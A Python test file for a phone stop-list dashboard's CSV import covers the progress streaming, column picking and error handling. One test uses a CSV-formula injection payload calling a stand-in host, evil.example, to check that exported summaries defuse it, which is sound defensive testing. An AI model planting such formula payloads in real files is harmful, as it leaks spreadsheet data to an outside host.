"""Importing from the dashboard: in the browser, without JavaScript, and the progress stream."""

from __future__ import annotations

import csv
import html
import io
import re
from urllib.parse import unquote

import httpx
from playwright.sync_api import Page, expect

from stoplist.domain.stops import StopList
from tests.support import Server
from tests.web.conftest import csrf_token_of, dashboard_client, sign_in_http, sign_in_with_key

CSV = b"\xef\xbb\xbfphoneNumber\n0612121212\nnot a number\n"


def test_import_without_javascript_answers_with_the_summary(server: Server, db, account):
    with httpx.Client(base_url=server.base_url, headers={"Accept-Language": "en"}) as client:
        sign_in_http(client, method="key", api_key=account.api_key)
        token = csrf_token_of(client.get("/dashboard/import"))
        answer = client.post(
            "/dashboard/import",
            data={"csrf_token": token},
            files={"file": ("numbers.csv", CSV, "text/csv")},
        )
    assert answer.status_code == 200
    assert 'id="import-added">1<' in answer.text and 'id="import-invalid">1<' in answer.text
    assert StopList(db, account.account).find("0612121212") is not None


def _downloads(page: str) -> dict[str, list[list[str]]]:
    """The CSV files an import's summary offers, by their download name."""
    found = re.findall(r'href="data:text/csv;charset=utf-8,([^"]*)" download="([^"]+)"', page)
    return {
        name: list(csv.reader(io.StringIO(unquote(html.unescape(data))))) for data, name in found
    }


def test_import_summaries_keep_formulas_of_the_file_from_running(server: Server, account):
    hostile = b'-Mobile\n0612121213\n=WEBSERVICE("http://evil.example/?"&A1)\n@SUM(1)\n'
    with dashboard_client(server, account.api_key) as (client, token):
        answer = client.post(
            "/dashboard/import",
            data={"csrf_token": token},
            files={"file": ("+cmd.csv", hostile, "text/csv")},
        )
    assert answer.status_code == 200 and 'id="import-invalid">2<' in answer.text
    files = _downloads(answer.text)
    assert files["import-summary.csv"][1][:3] == ["'+cmd.csv", "4", "'-Mobile"]
    assert [row[1] for row in files["invalid-lines.csv"][1:]] == [
        '\'=WEBSERVICE("http://evil.example/?"&A1)',
        "'@SUM(1)",
    ]


def test_import_progress_stream_ends_with_the_result(server: Server, db, account):
    with httpx.Client(base_url=server.base_url, headers={"Accept-Language": "en"}) as client:
        sign_in_http(client, method="key", api_key=account.api_key)
        token = csrf_token_of(client.get("/dashboard/import"))
        answer = client.post(
            "/dashboard/import",
            data={"csrf_token": token},
            files={"file": ("numbers.csv", CSV, "text/csv")},
            headers={"X-Import-Progress": "1"},
        )
        refused = client.post(
            "/dashboard/import",
            files={"file": ("numbers.csv", CSV, "text/csv")},
            headers={"X-Import-Progress": "1"},
        )
    head, _, result = answer.text.partition("\n--result--\n")
    size = len(CSV)  # progress counts the file's bytes
    assert head.splitlines()[0] == f"progress 0 {size}"
    assert head.splitlines()[-1] == f"progress {size} {size}"
    assert 'id="import-added">1<' in result and "<html" not in result
    assert refused.status_code == 403


def test_import_a_csv_with_progress_and_a_summary(page: Page, db, account, tmp_path):
    StopList(db, account.account).add("0611111111")
    upload = tmp_path / "customers.csv"
    upload.write_text(
        "name;phone_number\nAnn;06 11 11 11 11\nBob;+33 6 22 22 22 22\nCarl;hello\nDan;0633333333\n"
    )
    sign_in_with_key(page, account.api_key)
    page.get_by_role("link", name="Import").click()
    page.get_by_label("File").set_input_files(upload)
    page.get_by_role("button", name="Import").click()
    expect(page.locator("#import-phase")).to_have_text("Import finished.")
    expect(page.locator("#import-added")).to_have_text("2")
    expect(page.locator("#import-already")).to_have_text("1")
    expect(page.locator("#import-invalid")).to_have_text("1")
    expect(page.locator("#invalid-lines")).to_contain_text("hello")

    with page.expect_download() as download_info:
        page.get_by_role("link", name="Download the invalid lines (CSV)").click()
    rows = list(csv.reader(io.StringIO(download_info.value.path().read_text())))
    assert rows == [["line", "input", "code", "reason"], ["4", "hello", "9", "not_a_number"]]

    listed = StopList(db, account.account)
    assert listed.find("+33622222222") is not None and listed.find("0633333333") is not None
    page.goto("/dashboard/numbers?origin=import")
    expect(page.locator("table.numbers tbody tr")).to_have_count(2)


TWO_PHONES = "Nom;Domicile;Travail\nAnn;0140000000;0612345678\nBob;0140000001;0690845073\n"


def test_choose_the_column_from_a_preview(page: Page, db, account, tmp_path):
    upload = tmp_path / "contacts.csv"
    upload.write_text(TWO_PHONES)
    sign_in_with_key(page, account.api_key)
    page.goto("/dashboard/import")
    page.get_by_label("File").set_input_files(upload)
    page.get_by_role("button", name="Preview and choose the column").click()
    preview = page.locator("#import-preview")
    expect(preview.locator("thead th")).to_have_text(["Nom", "Domicile", "Travail"])
    expect(preview.locator("tbody tr")).to_have_count(2)
    expect(preview).to_contain_text("0690845073")
    expect(page.get_by_label("Domicile")).to_be_checked()  # the first column of numbers
    page.get_by_label("Travail").check()
    page.locator("#import-picker-form").get_by_role("button", name="Import").click()
    expect(page.locator("#import-added")).to_have_text("2")
    expect(page.locator("#import-column")).to_contain_text("Column read: Travail")
    listed = StopList(db, account.account)
    assert listed.find("+590690845073") is not None and listed.find("0140000000") is None


def test_a_blank_file_is_refused_without_a_picker(server: Server, account):
    with dashboard_client(server, account.api_key) as (client, token):
        answer = client.post(
            "/dashboard/import",
            data={"csrf_token": token},
            files={"file": ("blank.csv", b"\n\n  \n", "text/csv")},
        )
        assert answer.status_code == 422
        assert "the file is empty or has only blank lines" in answer.text
        assert 'id="import-preview"' not in answer.text


def test_a_file_without_a_phone_column_answers_with_the_picker(server: Server, account):
    contacts = b"name,email\nAnn,ann@example.com\n"
    with dashboard_client(server, account.api_key) as (client, token):
        answer = client.post(
            "/dashboard/import",
            data={"csrf_token": token},
            files={"file": ("contacts.csv", contacts, "text/csv")},
        )
        assert answer.status_code == 422
        assert "no phone column found; columns are: name, email" in answer.text
        assert 'id="import-preview"' in answer.text and "ann@example.com" in answer.text
        kept = re.search(r'name="kept" value="([^"]+)"', answer.text)
        assert kept is not None
        again = client.post(
            "/dashboard/import",
            data={"csrf_token": token, "kept": kept.group(1), "column": "2"},
        )
        assert again.status_code == 422 and "no valid phone number in column email" in again.text
        streamed = client.post(
            "/dashboard/import",
            data={"csrf_token": token},
            files={"file": ("contacts.csv", contacts, "text/csv")},
            headers={"X-Import-Progress": "1"},
        )
        _, _, result = streamed.text.partition("\n--result--\n")
        assert 'id="import-picker-form"' in result and "no phone column found" in result
        stranger = client.post(
            "/dashboard/import", data={"csrf_token": token, "kept": "x" * 22, "column": "1"}
        )
        assert stranger.status_code == 422 and "Choose a file first." in stranger.text
